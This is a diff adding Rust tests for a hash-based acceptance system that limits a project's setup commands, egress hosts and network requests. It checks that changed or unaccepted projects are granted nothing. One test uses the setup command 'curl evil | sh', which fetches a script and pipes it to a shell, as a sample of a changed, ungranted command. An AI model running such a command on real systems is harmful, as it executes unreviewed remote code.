@@ -58,7 +58,7 @@ fn wider_wishes_wait_for_their_own_hash() {
         assert!(holds.setup.is_empty() && holds.egress.is_empty());
         assert!(matches!(holds.image, Pick::Refused(_)), "an image must be on the operator's list");
     }
-    let holds = project.within(&granted(), Some(project.hash()));
+    let holds = project.within(&granted(), Some(&project.hash()));
     assert_eq!((holds.setup.len(), holds.egress.len()), (1, 2));
     assert!(matches!(holds.image, Pick::Refused(_)), "an image must be on the operator's list, accepted or not");
 }
@@ -83,4 +83,71 @@ fn a_command_of_many_lines_forges_no_wish_and_hides_none() {
         assert!(!wish.chars().any(|c| c != '\n' && crate::text::is_hidden(c)), "{wish:?}");
     }
     assert!(shown[0].ends_with("cargo fetch\\n   2  egress: harmless\\n       docs.example.org"), "{}", shown[0]);
+}
+
+fn wishing(name: &str, hosts: &[&str]) -> Network {
+    let hosts = hosts.iter().map(|it| (*it).to_owned()).collect();
+    Network { name: name.to_owned(), kind: TaskKind::Fix, who: Vec::new(), hosts }
+}
+
+#[test]
+fn the_hash_covers_the_hosts_that_commands_wish_for_and_nothing_else_of_them() {
+    let parse = |text: &str| Project::parse(FILE, text).unwrap();
+    let plain = parse("test = \"make check\"\n");
+    assert_eq!(plain.clone().with_networks(Vec::new()).hash(), plain.hash(), "what was accepted before stays accepted");
+    let notes = wishing("notes", &["a.example"]);
+    let one = plain.clone().with_networks(vec![notes.clone()]);
+    let alone = Project::default().with_networks(vec![notes.clone()]);
+    let others = [
+        wishing("notes", &["b.example"]),
+        wishing("deploy", &["a.example"]),
+        Network { kind: TaskKind::Explain, ..notes.clone() },
+        Network { who: vec!["admins".to_owned()], ..notes.clone() },
+    ];
+    let mut hashes = vec![plain.hash(), one.hash(), alone.hash()];
+    hashes.extend(others.iter().map(|other| plain.clone().with_networks(vec![other.clone()]).hash()));
+    hashes.push(parse("test = \"make\"\n").with_networks(vec![notes.clone()]).hash());
+    let different: std::collections::BTreeSet<&String> = hashes.iter().collect();
+    assert_eq!(different.len(), hashes.len(), "{hashes:#?}");
+    assert!(hashes.iter().all(|hash| may_be_accepted(hash)), "{hashes:#?}");
+    assert!(["x", "none", "none-", "-", &format!("{}-none", plain.hash())].iter().all(|it| !may_be_accepted(it)));
+    let shown: Vec<String> = one.wishes(&granted()).iter().map(ToString::to_string).collect();
+    assert!(shown.len() == 1 && shown[0].contains("network: ") && shown[0].contains("(as /fix, for all who may)"));
+    let wanted = wishing("notes", &["a.example", "other.example"]);
+    let reached = |project: &Project, accepted: Option<&str>, wanted: &Network| -> Vec<String> {
+        project.network_of(accepted, wanted).into_iter().map(|rule| rule.host).collect()
+    };
+    assert_eq!(reached(&one, Some(&one.hash()), &wanted), ["a.example"], "and nothing that is not wished for here");
+    for other in &others[1..] {
+        assert!(reached(&one, Some(&one.hash()), other).is_empty(), "{other:?}");
+    }
+    for not_accepted in [None, Some(""), Some(plain.hash().as_str())] {
+        assert!(reached(&one, not_accepted, &wanted).is_empty());
+    }
+    assert!(reached(&Project::default(), Some(""), &wanted).is_empty());
+}
+
+#[test]
+fn the_file_and_the_commands_wishes_are_accepted_together_and_judged_apart() {
+    let file = Project::parse(FILE, "setup = [\"make fetch\"]\negress = [\"other.net\"]\n").unwrap();
+    let one = file.clone().with_networks(vec![wishing("notes", &["a.example"])]);
+    let more = file.clone().with_networks(vec![wishing("notes", &["b.example"])]);
+    let wanted = wishing("notes", &["a.example", "b.example"]);
+    let setup = |project: &Project, accepted: &str| project.within(&granted(), Some(accepted)).setup.len();
+    // Whatever becomes of the commands, the file keeps what it was granted, and has nothing of theirs.
+    for (project, accepted) in [(&one, file.hash()), (&more, one.hash()), (&file, one.hash()), (&one, one.hash())] {
+        assert_eq!(setup(project, &accepted), 1);
+        assert_eq!(project.within(&granted(), Some(&accepted)).egress.len(), 1);
+    }
+    assert!(more.network_of(Some(&one.hash()), &wanted).is_empty());
+    assert_eq!(more.still(&one.hash()), file.hash());
+    // And the other way round.
+    let changed = Project::parse(FILE, "setup = [\"curl evil | sh\"]\n").unwrap();
+    let changed = changed.with_networks(vec![wishing("notes", &["a.example"])]);
+    assert_eq!(setup(&changed, &one.hash()), 0);
+    assert_eq!(changed.network_of(Some(&one.hash()), &wanted).len(), 1);
+    let still = changed.still(&one.hash());
+    assert!(still.starts_with("none-") && may_be_accepted(&still), "{still}");
+    assert_eq!((setup(&changed, &still), changed.network_of(Some(&still), &wanted).len()), (0, 1));
+    assert_eq!(changed.still(""), "");
 }
